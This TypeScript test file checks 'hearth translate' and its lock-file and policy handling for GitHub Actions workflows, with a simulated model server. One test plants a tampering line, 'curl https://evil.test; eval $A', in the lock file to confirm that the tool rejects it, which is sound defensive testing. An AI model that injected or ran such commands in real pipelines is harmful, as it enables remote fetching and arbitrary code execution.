/** `hearth translate` and what the lock file then means, as a person would have it; a model's server is played. */
import { execFileSync } from "node:child_process";
import { mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { startFakeModel } from "../model/fake-model-server.ts";
import { sandbox } from "../run-hearth.ts";
import type { Sandbox } from "../run-hearth.ts";
import { verifyProject } from "../verify-project.ts";

async function project({ directory }: Sandbox, steps: readonly object[], settings = "{}\n"): Promise<string> {
  const cwd = join(directory, "plain");
  await mkdir(join(cwd, ".github", "workflows"), { recursive: true });
  const workflow = { on: "push", jobs: { build: { "runs-on": "ubuntu-latest", steps } } };
  await writeFile(join(cwd, ".github", "workflows", "ci.yml"), JSON.stringify(workflow));
  await writeFile(join(cwd, "hearth.yml"), settings);
  execFileSync("git", ["init", "-q", "-b", "main", cwd]);
  return cwd;
}

const STEPS = [{ uses: "codecov/codecov-action@v4" }, { id: "made", uses: "octo/nowhere@v1" }];
const OFFLINE = { GITHUB_SERVER_URL: "http://127.0.0.1:9" };

function modelAt(url: string): Record<string, string> {
  return { ...OFFLINE, LLM_PROVIDER: "openai", LLM_BASE_URL: `${url}/v1`, LLM_MODEL: "fake" };
}

describe("hearth translate", () => {
  it("with --all also stands for actions that can run here, and says with --json what it would pin", async () => {
    await using place = await sandbox();
    const { project: cwd, flags, env } = await verifyProject(place);
    const actions = async (...more: readonly string[]): Promise<readonly string[]> => {
      const { stdout } = await place.run(["translate", "--json", ...more, ...flags], { cwd, env });
      const changes: readonly { kind: string; action?: string; translation?: { action: string } }[] =
        JSON.parse(stdout);
      return changes.map(({ kind, action, translation }) => `${kind} ${action ?? translation?.action}`);
    };
    expect(await actions()).toEqual(["none octo/nowhere@v1", "new rui314/setup-mold@v1"]);
    expect(await actions("--all")).toEqual([
      "new Swatinem/rust-cache@v2",
      "new codecov/codecov-action@v4",
      "none octo/nowhere@v1",
      "new rui314/setup-mold@v1",
    ]);
  });

  it("--frozen takes what the lock file pins, without a model, and nothing else", async () => {
    await using place = await sandbox();
    const cwd = await project(place, STEPS);
    const frozen = () => place.run(["run", "--frozen", "--provider", "host"], { cwd, env: OFFLINE });
    const before = await frozen();
    expect(before).toMatchObject({ exitCode: 3, stderr: expect.stringContaining("(--frozen)") });
    await using model = await startFakeModel();
    const pinning = await place.run(["translate", "--write"], { cwd, env: modelAt(model.url) });
    expect(pinning).toMatchObject({ exitCode: 0, stdout: expect.stringContaining("2 translations written to") });
    expect(model.requests).toBe(1);
    await model[Symbol.asyncDispose]();
    expect(await frozen()).toMatchObject({ exitCode: 0 });
    const lock = join(cwd, ".hearth", "lock.yml");
    const text = await readFile(lock, "utf8");
    await writeFile(lock, text.replace("echo done", "curl https://evil.test; eval $A"));
    const spoiled = await frozen();
    expect(spoiled).toMatchObject({ exitCode: 3, stderr: expect.stringContaining("(hidden)") });
  });

  it("stands for nothing that policy leaves out, whatever is to be translated always", async () => {
    await using place = await sandbox();
    const settings = "actions: { allow: [actions/*] }\ntranslate: { always: [codecov/codecov-action] }\n";
    const cwd = await project(place, STEPS.slice(0, 1), settings);
    const { exitCode, stderr } = await place.run(["run", "--provider", "host"], { cwd, env: OFFLINE });
    expect(exitCode).toBe(3);
    expect(stderr).toContain("is not among those that hearth.yml:1:12 (actions.allow) allows");
    await writeFile(join(cwd, "hearth.yml"), settings.replace("[actions/*]", "[codecov/*]"));
    expect(await place.run(["run", "--provider", "host"], { cwd, env: OFFLINE })).toMatchObject({ exitCode: 0 });
  });
});
